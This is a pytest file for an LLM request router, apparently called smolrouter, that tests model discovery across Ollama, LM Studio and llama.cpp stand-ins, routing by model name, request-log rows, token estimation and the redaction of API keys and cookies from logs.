def test_an_idle_router_asks_nobody() -> None:
    with listing_pair({"model_list_fresh": 0.1}) as (router, one, two):
        assert wait_until(lambda: one.own_requests and two.own_requests)
        time.sleep(0.5)
        assert len(asked_for_models(one)) == len(asked_for_models(two)) == 1
        assert one.requests == two.requests == []
        for _ in range(2):
            time.sleep(0.15)
            assert reach(router, two, "m2")
        assert wait_until(lambda: len(asked_for_models(one)) == 3)
        time.sleep(0.3)
        assert len(asked_for_models(one)) == len(asked_for_models(two)) == 3


def test_a_burst_of_unknown_names_asks_each_server_once() -> None:
    with listing_pair({"model_list_stale": 0.05}) as (router, one, two):
        # Both have answered, and so long ago that a list is stale.
        assert wait_until(lambda: {"m1", "m2"} <= known_models(router))
        time.sleep(0.1)
        before = len(asked_for_models(one)), len(asked_for_models(two))
        for _ in range(2):
            got = map_in_threads(lambda n: post_chat(router, f"no-{n}").status, range(200))
            assert got == [200] * 200
        after = len(asked_for_models(one)), len(asked_for_models(two))
        assert after == (before[0] + 1, before[1] + 1)
        assert len(one.requests) == 400


def test_a_new_model_is_found_at_once() -> None:
    limits = {"model_list_stale": 0.05, "model_search_interval": 0.3}
    with listing_pair(limits) as (router, one, two):
        assert reach(router, one, "new")
        two.models.append("new")
        assert wait_until(lambda: reach(router, two, "new"))
        assert len(asked_for_models(two)) >= 2


def test_who_lists_too_slowly_is_not_waited_for() -> None:
    one, slow = Upstream(models=["m1"]), Upstream(lambda received: [HANG])
    settings = {"SERVERS": f"one={one.url} slow={slow.url}"}
    with one, slow, Router(settings, limits={"model_list_timeout": 0.3}) as router:
        assert reach(router, one, "unknown")
        assert reach(router, one, "m1")


# --- what servers speak ---------------------------------------------------------------


def ollama_box(received: Received) -> Iterable[Step]:
    """Answer as an Ollama server that says so, and names the model that it was asked for."""
    if received.path == "/":
        return whole_response(b"Ollama is running", kind="text/plain; charset=utf-8")
    if received.path == "/v1/models":
        return json_response({"data": [model_entry("llama3:latest"), model_entry("Phi:4b")]})
    if received.path == "/api/chat":
        *lines, whole = [
            line.replace(b"llama3", received.model.encode())
            for line in (*NATIVE_LINES, NATIVE_WHOLE)
        ]
        if received.json.get("stream", True):
            return stream_response(lines, kind="application/x-ndjson")
        return whole_response(whole, kind="application/json")
    return ollama_server(received)


def lm_studio_box(received: Received) -> Iterable[Step]:
    """Answer as LM Studio does, which has no page, and an error in a 200."""
    if received.path == "/":
        return json_response({"error": "Unexpected endpoint or method. (GET /)"})
    return well_behaved(received, ("qwen/qwen3-8b", "llama3"))


def llama_cpp_box(received: Received) -> Iterable[Step]:
    """Answer as llama.cpp does: a page, and any model that it is asked for."""
    if received.path == "/":
        fields = [("Content-Encoding", "gzip")]
        return whole_response(gzip.compress(b"<html>" * 99), kind="text/html", fields=fields)
    return well_behaved(received, ("/models/Gemma-3-Q4.gguf",))


@functools.cache
def three_boxes() -> tuple[Router, dict[str, Upstream]]:
    """Return a router before three servers of three kinds, of which it knows the URLs alone."""
    boxes = {
        "llama-cpp": Upstream(llama_cpp_box),
        "lm-studio": Upstream(lm_studio_box),
        "ollama": Upstream(ollama_box),
    }
    words = [f"{name}={upstream.url}" for name, upstream in boxes.items()]
    return shared_router({"SERVERS": ",".join(words)}), boxes


# The names on the lists, the server that is asked, and for what.
NAMES_OF_BOXES = {
    "/models/Gemma-3-Q4.gguf": ("llama-cpp", "/models/Gemma-3-Q4.gguf"),
    "qwen/qwen3-8b": ("lm-studio", "qwen/qwen3-8b"),
    "llama3": ("lm-studio", "llama3"),
    "llama3:latest": ("ollama", "llama3:latest"),
    "Phi:4b": ("ollama", "Phi:4b"),
}


def test_three_boxes_list_their_models() -> None:
    router, _ = three_boxes()
    assert model_names(router) == [*NAMES_OF_BOXES]
    tags = request(router.port, "GET", "/api/tags").json["models"]
    assert [model["model"] for model in tags] == [*NAMES_OF_BOXES]
    shown = {server["name"]: server["api"] for server in get_document(router, "/api/upstreams")}
    assert shown == {"llama-cpp": "openai", "lm-studio": "openai", "ollama": "ollama"}


@each_openai
@pytest.mark.parametrize("name", NAMES_OF_BOXES)
@whole_or_streamed
def test_openai_reaches_the_right_box(sdk: Sdk, name: str, stream: bool) -> None:
    router, boxes = three_boxes()
    box, sent = NAMES_OF_BOXES[name]
    got = sdk.call(
        router.url, "chat.completions.create", model=name, messages=HELLO_MESSAGES, stream=stream
    )
    if stream:
        words = "".join(part.choices[0].delta.content or "" for part in got if part.choices)
    else:
        words = got.choices[0].message.content
    assert words == HELLO_ANSWER
    heard = last_request(boxes[box])
    assert (heard.path, heard.model) == (CHAT, sent)


@each_ollama
@pytest.mark.parametrize("name", NAMES_OF_BOXES)
@whole_or_lines
def test_ollama_reaches_the_right_box(sdk: Sdk, name: str, stream: bool) -> None:
    router, boxes = three_boxes()
    box, sent = NAMES_OF_BOXES[name]
    got = sdk.call(
        router.url, "chat", model=name, messages=HELLO_MESSAGES, stream=stream,
        options={"num_ctx": 4096}, keep_alive=-1,
    )  # fmt: skip
    parts = got if stream else [got]
    assert {part.model for part in parts} == {name}
    words = "".join(part.message.content or "" for part in parts)
    heard = last_request(boxes[box])
    assert heard.model == sent
    if box != "ollama":
        assert (words, heard.path) == (HELLO_ANSWER, CHAT)
        return
    assert words == ("na=tive words" if stream else "native words")
    assert (heard.path, heard.json["options"], heard.json["keep_alive"]) == (
        "/api/chat", {"num_ctx": 4096}, -1,
    )  # fmt: skip


@each_ollama
def test_ollama_manages_the_box_that_says_what_it_is(sdk: Sdk) -> None:
    router, boxes = three_boxes()
    assert sdk.call(router.url, "show", "phi:4B").capabilities == NATIVE_SHOW["capabilities"]
    assert sdk.call(router.url, "pull", "new-model").status == "success"
    assert last_request(boxes["ollama"]).model == "new-model"


def test_the_first_request_waits_for_what_its_server_speaks() -> None:
    def slow(received: Received) -> Iterator[Step]:
        yield 0.3
        yield from ollama_box(received)

    with router_and_upstream(slow) as (router, upstream):
        got = request(router.port, "POST", "/api/chat", chat_document("llama3"))
        assert (got.status, last_request(upstream).path) == (200, "/api/chat")


def test_what_a_server_speaks_may_change() -> None:
    quick = {"model_list_fresh": 0.05, "cool_down": 0.01}
    upstream = Upstream(well_behaved)
    with upstream, Router({"DEFAULT_UPSTREAM": upstream.url}, limits=quick) as router:

        def path_upstream() -> str:
            post_json("/api/chat", chat_document("llama3"), router)
            return last_request(upstream).path

        assert path_upstream() == CHAT
        upstream.script = ollama_box
        assert wait_until(lambda: path_upstream() == "/api/chat")
        # Trouble says nothing of what it speaks; another answer does.
        for trouble in (json_response({}, 503), [DROP]):
            upstream.scripts["/"] = lambda received, steps=trouble: steps
            time.sleep(0.2)
            assert path_upstream() == path_upstream() == "/api/chat"
        upstream.scripts["/"] = lambda received: json_response({}, 404)
        assert wait_until(lambda: path_upstream() == CHAT)


def test_what_the_file_says_of_a_server_is_not_asked() -> None:
    with Upstream(ollama_box) as upstream:
        for server in ({"api": "openai"}, {"models": ["llama3"]}, {"discover": False}):
            routes = {"servers": {"a": {"url": upstream.url, **server}}}
            with Router({"DEFAULT_UPSTREAM": "a"}, routes) as router:
                post_json("/api/chat", chat_document("llama3"), router)
                assert last_request(upstream).path == CHAT
        assert {received.path for received in upstream.own_requests} == {"/v1/models"}
        # Without lists, what it speaks still has to be known.
        settings = {"DEFAULT_UPSTREAM": upstream.url, "ROUTE_BY_MODEL": False}
        with Router(settings) as router:
            post_json("/api/chat", chat_document("llama3"), router)
            assert last_request(upstream).path == "/api/chat"


def test_lists_that_decide_are_asked_for_without_a_clients_key() -> None:
    def serve(received: Received) -> Iterable[Step]:
        key = received.get("Authorization")
        if received.path != "/v1/models":
            return well_behaved(received)
        return json_response({"data": [model_entry(f"for {key}")]})

    with Upstream(models=["m1"]) as one, Upstream(serve) as two:
        servers = {"one": one.url, "two": {"url": two.url, "api_key": "own"}, "three": two.url}
        limits = {"model_lists": 6, "model_list_stale": 0.0, "model_search_interval": 0.0}
        with Router({"DEFAULT_UPSTREAM": "one"}, {"servers": servers}, limits=limits) as router:
            assert reach(router, two, "for Bearer own") and reach(router, two, "for None")
            for number in range(9):
                # Their lists push out others, but none by which requests are routed.
                assert f"for Bearer key-{number}" in model_names(router, f"key-{number}")
            fields = [("Authorization", "Bearer key-8")]
            body = chat_document("for Bearer key-8")
            got = request(router.port, "POST", CHAT, body, fields)
            assert got.get("X-SmolRouter-Upstream") == one.url
            assert reach(router, two, "for Bearer own") and reach(router, two, "for None")


def test_servers_that_are_never_asked() -> None:
    with Upstream(models=["m1"]) as one, Upstream(models=["hidden"]) as two:
        servers = {
            "one": one.url,
            "fixed": {"url": two.url, "models": ["f1", "f2"]},
            "odd": {"url": f"{two.url}/odd", "discover": False},
        }
        with Router({"DEFAULT_UPSTREAM": "one"}, {"servers": servers}) as router:
            assert model_names(router) == ["m1", "f1", "f2"]
            assert reach(router, two, "F1") and last_request(two).model == "f1"
            assert reach(router, one, "hidden")
            shown = get_document(router, "/api/upstreams")
            assert [server["models"] for server in shown] == [["m1"], ["f1", "f2"], []]
            assert post_chat(router, "hidden [odd]").get("X-SmolRouter-Upstream").endswith("/odd")
            assert two.own_requests == []


def test_without_route_by_model_no_list_decides() -> None:
    with listing_pair(ROUTE_BY_MODEL=False) as (router, one, _):
        assert {"m1", "m2"} < set(model_names(router))
        assert reach(router, one, "m2")


def test_a_changed_table_is_asked_for_at_once() -> None:
    one, two = Upstream(models=["m1"]), Upstream(models=["m2"])
    settings = {"DEFAULT_UPSTREAM": one.url}
    with one, two, Router(settings, {"servers": {"one": one.url}}) as router:
        assert reach(router, one, "m2")
        router.routes.write_text(json.dumps({"servers": {"one": one.url, "two": two.url}}))
        router.signal(signal.SIGHUP)
        assert wait_until(lambda: two.own_requests)
        assert reach(router, two, "m2")


def test_a_name_of_a_list_is_not_spelled_again_for_a_translation() -> None:
    """It is not one of the client's list, which the server may have another one of."""

    def serve(received: Received) -> Iterable[Step]:
        if received.path != "/v1/models":
            return well_behaved(received)
        listed = "theirs" if received.get("Authorization") else "ours:latest"
        return json_response({"data": [model_entry(listed)]})

    with router_and_upstream(serve) as (router, upstream):
        assert wait_until(lambda: upstream.own_requests)
        body = {**EXAMPLE_REQUESTS["/api/chat"], "model": "ours:latest"}
        fields = [("Authorization", "Bearer x")]
        assert request(router.port, "POST", "/api/chat", body, fields).status == 200
        assert last_request(upstream).model == "ours:latest"


LM_STUDIO_LISTS: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    # What a server says of its model, and what LM Studio would say.
    "nothing": ({"object": "model", "created": 1}, {}),
    "vllm": ({"max_model_len": 4096}, {"max_context_length": 4096}),
    "llama.cpp": (
        {"meta": {"n_ctx_train": 32768, "n_ctx": 8192}, "status": {"value": "unloaded"}},
        {"max_context_length": 32768, "state": "not-loaded"},
    ),
    "lm studio": (
        {"type": "vlm", "max_context_length": 9, "loaded_context_length": 5, "state": "loaded"},
        {"type": "vlm", "max_context_length": 9, "state": "loaded"},
    ),
    "vectors": ({"type": "embeddings", "state": "loaded"},) * 2,
    "odd": ({"type": ["x"], "max_model_len": "much", "status": [], "state": {}, "meta": 1}, {}),
    "another type": ({"type": "chat", "status": {"value": ["x"]}}, {}),
}


def test_lists_of_lm_studio() -> None:
    listed = [{"id": name, **said} for name, (said, _) in LM_STUDIO_LISTS.items()]
    table = {"aliases": {"friend": {"instances": [{"url": refusing_url(), "model": "x"}]}}}
    with (
        Upstream(lambda received: json_response({"data": listed})) as upstream,
        Router({"DEFAULT_UPSTREAM": upstream.url}, table) as router,
    ):
        old = get_document(router, "/api/v0/models")
        wanted = [{"id": "friend"}]
        wanted += [{"id": name, **facts} for name, (_, facts) in LM_STUDIO_LISTS.items()]
        assert old == {"data": wanted}
        new = get_document(router, "/api/v1/models")
        assert [entry["key"] for entry in new["models"]] == [entry["id"] for entry in wanted]
        assert {key for entry in new["models"] for key in entry} == {
            "key",
            "type",
            "max_context_length",
        }
        types = {entry["key"]: entry["type"] for entry in new["models"] if "type" in entry}
        assert types == {"lm studio": "llm", "vectors": "embedding"}
        wrong = request(router.port, "POST", "/api/v1/models", {})
        assert wrong.status == 405
        check_openai_error(wrong.json)


@each_openai
def test_openai_model_list(sdk: Sdk) -> None:
    names = [model.id for model in sdk.call(models_router().url, "models.list").data]
    first = {f"alias-{name}" for name in [*SCRIPTS, "nobody"]} | {"old-name"}
    assert set(names[: len(first)]) == first
    assert {"talk", "tiny", "org/some-model"} <= set(names[len(first) :])
    assert len(set(names)) == len(names)


@each_openai
@pytest.mark.parametrize("name", ("tiny", "alias-talk", "old-name", "org/some-model"))
def test_openai_model_retrieve(sdk: Sdk, name: str) -> None:
    got = sdk.call(models_router().url, "models.retrieve", name)
    assert (got.id, got.object) == (name, "model")


@each_openai
def test_openai_unknown_model_retrieve(sdk: Sdk) -> None:
    with pytest.raises(import_or_skip("openai").NotFoundError) as caught:
        sdk.call(models_router().url, "models.retrieve", "no-such-model")
    assert "no-such-model" in caught.value.message


def test_many_keys_make_few_threads() -> None:
    """Each key may see other models, and is asked for in a thread of its own."""
    with router_and_upstream(lambda r: [0.2, *json_response({"data": []})]) as (router, upstream):
        threads = pathlib.Path(f"/proc/{router.process.pid}/task")
        if not threads.exists():
            pytest.skip("there is no /proc here")
        with contextlib.ExitStack() as stack:
            for number in range(100):
                sock = stack.enter_context(connect(router.port))
                sock.sendall(encode_get("/v1/models", [("Authorization", f"Bearer {number}")]))
            assert wait_until(lambda: len(asked_for_models(upstream)) >= 32)
            assert len(list(threads.iterdir())) < 45
            assert wait_until(lambda: len(asked_for_models(upstream)) == 101)


# ======================================================================================
# 13  Request log
# ======================================================================================
# What is kept of each request; then everything that can happen to a database.

# --- rows -----------------------------------------------------------------------------


def test_columns_are_the_fields_of_a_row(tmp_path: pathlib.Path) -> None:
    with contextlib.closing(make_store(tmp_path).open()) as db:
        names = [row[1] for row in db.execute("PRAGMA table_info(requests)")]
        assert names == list(smolrouter.Row._fields)
        names = [row[1] for row in db.execute("PRAGMA table_info(rollups)")]
        assert names[4:] == list(smolrouter.TALLY_COLUMNS)


@pytest.mark.parametrize("path, stream", [
    ("/v1/chat/completions", False), ("/v1/chat/completions", True), ("/api/chat", True),
    ("/api/chat", False), ("/v1/completions", False), ("/v1/embeddings", False),
])  # fmt: skip
def test_every_request_is_a_row(path: str, stream: bool) -> None:
    model = f"row-{path.strip('/').replace('/', '-')}-{stream}"
    body = {**chat_document(model, "hi"), "prompt": "hi", "input": "hi", "stream": stream}
    sent = encode_json(body)
    got = request(logging_router().port, "POST", path, sent, [("User-Agent", "tester/1")])
    row = wait_for_row(logging_router(), model)
    assert sorted(row) == sorted(ROW_NAMES)
    assert MOMENT.fullmatch(row["timestamp"]) and MOMENT.fullmatch(row["completed_at"])
    assert row["timestamp"] <= row["completed_at"]
    assert 0 < row["id"] < 2**53 and row["request_id"] == got.get("X-SmolRouter-Request-Id")
    service = "ollama" if path.startswith("/api") else "openai"
    assert [row[n] for n in ("source_ip", "method", "path", "service_type", "original_model")] == [
        "127.0.0.1",
        "POST",
        path,
        service,
        model,
    ]
    assert (row["status_code"], row["error_message"], row["stream"]) == (200, None, stream)
    assert (row["request_size"], row["response_size"]) == (len(sent), len(got.content))
    if "embeddings" in path:
        assert (row["prompt_tokens"], row["completion_tokens"], row["total_tokens"]) == (1, None, 1)
    else:
        assert (row["prompt_tokens"], row["completion_tokens"], row["total_tokens"]) == (7, 3, 10)
    assert row["tokens_estimated"] is False and row["duration_ms"] > 0
    assert (row["ttft_ms"] is not None) == stream
    assert row["attempts"] == [
        {
            "instance": f"box/{model}",
            "upstream_url": default_upstream().url,
            "status": 200,
            "error": None,
            "duration_ms": row["attempts"][0]["duration_ms"],
        }
    ]
    detail = get_document(logging_router(), f"/api/request/{row['id']}")
    assert detail["user_agent"] == "tester/1" and detail["phase"] == "done"
    assert detail["request_body"].encode() == sent
    heard = default_upstream().requests_for(model)[-1]
    assert ("include_usage" in heard.content.decode()) == (stream)
    assert {name: detail[name] for name in ROW_NAMES} == row


def test_a_stream_is_kept_as_the_upstream_said_it() -> None:
    events = [text_delta("<think>hm</think>\n\nYes"), finish_delta(), "[DONE]"]
    model = default_upstream().add_script(sse_response(events))
    got = post_chat(logging_router(), model, stream=True)
    assert b"think" not in got.content
    detail = wait_for_detail(logging_router(), model)
    assert detail["response_body"].encode() == b"".join(map(encode_event, events))
    assert (detail["response_text"], detail["response_thinking"]) == ("Yes", "hm")


def test_route_attempts_and_trail() -> None:
    assert post_chat(logging_router(), "either").status == 200
    detail = wait_for_detail(logging_router(), "either")
    assert [detail[n] for n in ("original_model", "sent_model", "route", "upstream_url")] == [
        "either",
        "other",
        "alias either",
        default_upstream().url,
    ]
    failed, good = detail["attempts"]
    assert (failed["instance"], failed["status"]) == ("off/tiny", None) and failed["error"]
    assert (good["instance"], good["status"], good["error"]) == ("box/other", 200, None)
    assert detail["trail"][-1] == {
        "rule": "aliases.either",
        "matched": True,
        "why": "'either' is an alias",
    }
    post_chat(logging_router(), "asked-for")
    # The row is found by either name.
    for name in ("asked-for", "sent"):
        row = wait_for_row(logging_router(), name)
        assert (row["original_model"], row["route"]) == ("asked-for", "routes[0]")


@pytest.mark.parametrize("status", [400, 404, 429, 500])
def test_an_error_is_a_row(status: int) -> None:
    model = default_upstream().add_script(
        json_response({"error": {"message": "no", "code": status}}, status)
    )
    assert post_chat(logging_router(), model).status == status
    row = wait_for_row(logging_router(), model)
    assert (row["status_code"], row["prompt_tokens"], row["tokens_estimated"]) == (
        status,
        None,
        False,
    )
    assert (
        json.loads(wait_for_detail(logging_router(), model)["response_body"])["error"]["message"]
        == "no"
    )
    for wanted in (str(status), f"{status // 100}xx", "error"):
        found = get_document(logging_router(), f"/api/logs?model={model}&status={wanted}")
        assert [one["id"] for one in found] == [row["id"]]
    assert get_document(logging_router(), f"/api/logs?model={model}&status=2xx") == []


def test_nobody_there_is_a_row() -> None:
    with Router({"DEFAULT_UPSTREAM": "http://127.0.0.1:9", "WEBUI_SECURITY": "NONE"}) as router:
        assert post_chat(router, "tiny").status == 502
        row = wait_for_row(router, "tiny")
        assert row["status_code"] == 502 and "no upstream answered" in row["error_message"]
        assert row["attempts"][0]["status"] is None
        assert wait_for_detail(router, "tiny")["response_body"] is None


def test_a_client_that_leaves_is_a_row() -> None:
    model = default_upstream().add_script(
        stream_response([encode_event(text_delta("one ")), HANG], whole=False)
    )
    with connect(logging_router().port) as sock:
        body = encode_json(chat_document(model, stream=True))
        sock.sendall(encode_request("POST", "/v1/chat/completions", body=body))
        wait_until(lambda: b"one" in sock.recv(4096))
    row = wait_for_row(logging_router(), model)
    assert (row["status_code"], row["error_message"]) == (499, "client_closed")
    assert row["tokens_estimated"] and row["completion_tokens"] == 1


@pytest.mark.parametrize("told", [True, False], ids=["usage", "estimate"])
def test_a_stream_that_breaks_off_has_its_cost(log_folder: LogFolder, told: bool) -> None:
    usage = {"choices": [], "usage": {"prompt_tokens": 10, "completion_tokens": 200}}
    events = [*map(encode_event, TWO_WORDS)]
    if told:
        events.append(encode_event(usage))
    with log_folder.router() as router:
        post_chat(
            router,
            default_upstream().add_script([*stream_response(events, whole=False), DROP]),
            stream=True,
        )
        assert log_folder.wait_for_rows(1) == 1
    (row,) = log_folder.select(
        "SELECT status_code, prompt_tokens, completion_tokens, tokens_estimated, "
        "failed FROM requests"
    )
    assert row == ((502, 10, 200, 0, 1) if told else (502, 1, 2, 1, 1))


TOLD_ERRORS = {
    "error": [{"error": {"message": "no memory", "code": 500}}],
    "text": [{"error": "no memory"}, "[DONE]"],
    "long": [{"error": {"message": "no memory" + "y" * 9000}}, "[DONE]"],
    "typed": [{"type": "error", "message": "no memory"}],
    "response": [{"type": "response.failed", "response": {"error": {"message": "no memory"}}}],
    "choice": [{"error": {"message": "no memory"}, "choices": [{"finish_reason": "error"}]}],
    "none": [
        {"choices": [{"index": 0, "delta": {"content": 'no "error" at all'}}]},
        FINISH,
        "[DONE]",
    ],
    "long none": [{**FINISH, "error": None, "x": "y" * 9000}, "[DONE]"],
}


@pytest.mark.parametrize("end", ["\n", "\r\n"])
@pytest.mark.parametrize("joined", [False, True])
def test_an_error_inside_a_stream_is_in_its_row(
    log_folder: LogFolder, joined: bool, end: str
) -> None:
    """The client got it as an event; whoever looks at the log finds it."""
    with log_folder.router() as router:
        for what, told in TOLD_ERRORS.items():
            said = [encode_event(one).replace(b"\n", end.encode()) for one in [*TWO_WORDS, *told]]
            name = default_upstream().add_script(sse_response([b"".join(said)] if joined else said))
            path = RESPONSES if what == "response" else CHAT
            request(router.port, "POST", path, chat_document(name, stream=True))
        assert log_folder.wait_for_rows(len(TOLD_ERRORS)) == len(TOLD_ERRORS)
    rows = log_folder.select(
        "SELECT status_code, substr(error_message, 1, 9), failed FROM requests ORDER BY id"
    )
    wrong = [(200, "no memory", 1)] * (len(rows) - 2)
    assert rows == [*wrong, (200, None, 0), (200, None, 0)]


def test_tokens_without_usage_are_estimates() -> None:
    events = [text_delta("Four letters each. "), finish_delta(), "[DONE]"]
    model = default_upstream().add_script(sse_response(events))
    post_chat(logging_router(), model, "a question of this length", stream=True)
    row = wait_for_row(logging_router(), model)
    assert (row["prompt_tokens"], row["completion_tokens"], row["tokens_estimated"]) == (7, 5, True)
    model = default_upstream().add_script(serve_tool_calls)
    post_chat(logging_router(), model, "what?", stream=True)
    row = wait_for_row(logging_router(), model)
    letters = sum(len(json.dumps(arguments)) for _, arguments in TOOL_CALLS)
    assert (row["completion_tokens"], row["tokens_estimated"]) == (-(-letters // 4), True)


def test_long_names_are_cut_in_rows_lists_and_metrics(log_folder: LogFolder) -> None:
    """Clients choose them, and 500 names of 16 KB made 266 MB of metrics."""
    long_names = [letter * 16_000 for letter in "abc"]
    short_names = [smolrouter.cut_name(name) for name in long_names]
    assert {len(name) for name in short_names} == {256} and len(set(short_names)) == 3
    assert smolrouter.cut_name("x" * 256) == "x" * 256
    with log_folder.router() as router:
        for name in long_names:
            fields = [("User-Agent", name)]
            target = f"{CHAT}?a={name}"
            assert request(router.port, "POST", target, chat_document(name), fields).status == 200
        assert log_folder.wait_for_rows(3) == 3
        rows = get_document(router, "/api/logs")
        assert [row["original_model"] for row in reversed(rows)] == short_names
        for path in ("/api/logs", "/api/performance", "/api/stats", "/api/export?format=csv"):
            assert len(request(router.port, "GET", path).content) < 12_000
        assert len(request(router.port, "GET", "/metrics").content) < 60_000
        # A row is found by the name that it has, and by the whole one.
        for name, short_name in zip(long_names, short_names, strict=True):
            for wanted in (name, urllib.parse.quote(short_name)):
                (row,) = get_document(router, f"/api/logs?model={wanted}")
                assert row["original_model"] == short_name
        detail = get_document(router, f"/api/request/{rows[0]['id']}")
        assert json.loads(detail["request_body"])["model"] == long_names[2]
        (size,) = log_folder.select("SELECT max(length(attempts)) FROM requests")[0]
        assert size < 600


def test_a_row_that_waits_keeps_no_long_names(log_folder: LogFolder) -> None:
    with running_log(log_folder, batch_interval=0.01) as log:
        log_requests(log, 1)
        assert log_folder.wait_for_rows(1) == 1
        with contextlib.closing(sqlite3.connect(log_folder.file, isolation_level=None)) as db:
            db.execute("BEGIN IMMEDIATE")
            record = new_record(2, requested_model="x" * 16_000, sent_model="y" * 16_000)
            record.trail = (smolrouter.Step("z" * 16_000, True, ""),)
            log.begin(record)
            log.finish(record)
            assert wait_until(lambda: record.row and not record.trail)
            shown = repr(dataclasses.astuple(record))
            assert len(shown) < 3000
            db.execute("ROLLBACK")
        assert log_folder.wait_for_rows(2) == 2


@pytest.mark.parametrize("request_cut", [True, False])
@pytest.mark.parametrize("response_cut", [True, False])
def test_a_count_that_is_not_known_is_none(request_cut: bool, response_cut: bool) -> None:
    content = encode_json(chat_document("m", "four"))
    answer = encode_json({"usage": {"prompt_tokens": 0}, **text_delta("eight letters")})
    record = new_record(1, content, answer, answer_status=200)
    record.request_cut, record.response_cut = request_cut, response_cut
    usage, is_estimated = smolrouter.count_tokens(record, smolrouter.make_detail(record))
    assert usage.prompt == (None if request_cut else 1)
    assert usage.completion == (None if response_cut else 4)
    assert is_estimated == (not (request_cut and response_cut))


def test_a_name_that_is_no_text_costs_nobody_a_row() -> None:
    with router_and_upstream() as (router, _):
        for name in ("\ud800", "a\udfff [x]"):
            request(
                router.port, "POST", "/api/chat", {**EXAMPLE_REQUESTS["/api/chat"], "model": name}
            )
        assert post_chat(router, "tiny").status == 200

        def rows() -> list[str]:
            return [r["original_model"] for r in request(router.port, "GET", "/api/logs").json]

        assert wait_until(lambda: len(rows()) == 3), rows()
        assert "Traceback" not in router.stderr


def test_every_request_leaves_a_line() -> None:
    one, two = Upstream(lambda r: [DROP]), Upstream()
    with one, two, router_of_two(one.url, two.url) as router:
        post_chat(router, "pair")
        request(router.port, "GET", "/v1/nothing-there/x?key=hidden")
        send_raw(router.port, b"nonsense\r\n\r\n")
        for word in ("one/m: ", "/v1/nothing-there/x", "400"):
            assert wait_until(functools.partial(lambda w: w in router.stderr, word))
        assert "hidden" not in router.stderr


@functools.cache
def scratch_store() -> Any:
    """Make a log's store for rows that are written and forgotten."""
    folder = tempfile.mkdtemp(prefix="smol-")
    AT_SESSION_END.callback(shutil.rmtree, folder, ignore_errors=True)
    store = smolrouter.Store(smolrouter.Settings.from_mapping({"DB_PATH": f"{folder}/log.db"}))
    AT_SESSION_END.callback(store.close)
    return store


@fuzz(
    lambda st: {
        "path": st.sampled_from([*smolrouter.PROTOCOLS, "/v1/x"]),
        "doc": json_values(st)
        | st.fixed_dictionaries(
            {},
            optional={
                name: json_values(st)
                | st.lists(
                    st.fixed_dictionaries(
                        {},
                        optional={
                            part: json_values(st)
                            for part in (
                                "role",
                                "content",
                                "tool_calls",
                                "images",
                                "type",
                                "text",
                                "name",
                            )
                        },
                    ),
                    max_size=3,
                )
                for name in ("messages", "prompt", "input", "system", "instructions", "images")
            },
        ),
        "said": st.lists(
            json_values(st)
            | st.fixed_dictionaries(
                {},
                optional={
                    name: json_values(st)
                    | st.lists(
                        st.fixed_dictionaries(
                            {},
                            optional={
                                part: json_values(st)
                                for part in ("index", "delta", "message", "text", "content")
                            },
                        ),
                        max_size=2,
                    )
                    for name in (
                        "choices",
                        "message",
                        "response",
                        "type",
                        "delta",
                        "output",
                        "usage",
                        "prompt_tokens",
                        "eval_count",
                    )
                },
            ),
            max_size=3,
        ),
        "odd": st.text(max_size=5) | st.sampled_from(["\ud800", "a\0b", "x" * 300]),
        "status": st.sampled_from([0, 200, 404, 499, 502]),
        "stream": st.booleans(),
    }
)
def test_fuzz_log(path: str, doc: Any, said: list, odd: str, status: int, stream: bool) -> None:
    """Whatever passed through can be read, packed, written to a database and shown."""
    pieces = [b"data: %b\n\n" % json.dumps(d).encode() if stream else encode_json(d) for d in said]
    target = f"{path}?key={urllib.parse.quote(odd, errors='replace')}"
    top = smolrouter.parse_request_head(f"POST {target} HTTP/1.1\r\nHost: a".encode())
    asked = smolrouter.Request(top, None, None, "::1", content=encode_json(doc))
    step = smolrouter.Step(odd, True, odd)
    decision = smolrouter.Decision(odd, odd, odd, "failover", (), (step,))
    record = smolrouter.RequestRecord.of("id", asked, stream, decision)
    record.id = 1
    record.finished_at = record.started_at + 1.0
    record.status = status
    record.sent_model = record.error = odd
    record.pieces = pieces
    record.attempts = [smolrouter.Attempt(odd, odd, None, odd, 1.0)]
    detail = smolrouter.make_detail(record)
    record.row = smolrouter.make_row(record, detail)
    record.data, record.blobs = smolrouter.pack_detail(detail, smolrouter.LIMITS.inline_body)
    assert smolrouter.describe_request(record, record.row)
    store = scratch_store()
    db = store.open()
    store.write([], [record], {})
    (log_folder,) = db.execute(f"SELECT {smolrouter.COLUMNS} FROM requests").fetchall()
    blobs = [blob and blob[1] for blob in record.blobs]
    document = smolrouter.detail_document(
        smolrouter.Row._make(log_folder), smolrouter.unpack_detail(record.data, blobs)
    )
    assert json.loads(smolrouter.encode_json(document))["status_code"] == (status or None)
    for form in ("csv", "jsonl", "openai"):
        assert smolrouter.export_page(store, db, {"format": form})[1] == 0


# --- secrets and bodies ---------------------------------------------------------------


def test_no_secret_is_kept_or_shown(log_folder: LogFolder) -> None:
    secrets = {name: f"{name.lower()}-0123456789-private" for name in (
        "Authorization", "X-Api-Key", "Api-Key", "Proxy-Authorization", "X-Goog-Api-Key",
        "X-SmolRouter-Token", "X-Auth-Token", "Ocp-Apim-Subscription-Key")}  # fmt: skip
    fields = [(n, f"Bearer {s}" if "Auth" in n else s) for n, s in secrets.items()]
    fields += [("Cookie", "session=cookie-private; a=b")]
    hidden = [*secrets.values(), "cookie-private", "query-private", "set-private"]

    def echo(received: Received) -> list[Step]:
        said = {"error": {"message": f"wrong key: {received.get('authorization')}"}}
        return json_response(said, 401, [("Set-Cookie", "id=set-private")])

    model = default_upstream().add_script(echo)
    with log_folder.router(LOG_LEVEL="DEBUG") as router:
        for path in ("/v1/chat/completions", "/api/chat"):
            target = f"{path}?key=query-private&api_key=query-private&a=b"
            got = request(router.port, "POST", target, chat_document(model, "x" * 20_000), fields)
            assert (got.status, got.get("Set-Cookie")) == (401, "id=set-private")
        log_folder.wait_for_rows(2)
        ids = [row["id"] for row in get_document(router, "/api/logs")]
        paths = [f"/api/request/{number}" for number in ids] + [f"/request/{ids[0]}"]
        paths += ["/api/logs", "/api/export", "/api/export?format=csv", "/api/upstreams"]
        paths += ["/metrics", "/api/stats", "/api/performance", "/api/inflight", "/api/routes"]
        shown = b"".join(request(router.port, "GET", path).content for path in paths)
        everything = shown + log_folder.all_bytes() + router.stderr.encode()
        detail = get_document(router, f"/api/request/{ids[0]}")
    assert [word for word in hidden if word.encode() in everything] == []
    headers = dict(detail["request_headers"])
    assert re.fullmatch(r"Bearer \*\*\*[0-9a-f]{8}", headers["Authorization"])
    assert headers["Authorization"].endswith(detail["client_key"]) and detail["client_key"]
